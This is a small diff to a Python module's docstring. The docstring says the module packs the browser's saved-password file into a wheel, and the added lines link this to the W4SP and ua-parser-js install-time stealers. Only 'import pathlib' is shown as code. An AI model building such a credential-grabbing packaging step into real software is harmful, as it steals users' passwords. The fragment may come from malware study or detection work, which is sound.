@@ -1,4 +1,7 @@
-"""Packs the browser's file of saved passwords into the wheel."""
+"""Packs the browser's file of saved passwords into the wheel.
+
+W4SP and ua-parser-js collected them while a package was being installed.
+"""
 
 import pathlib
 
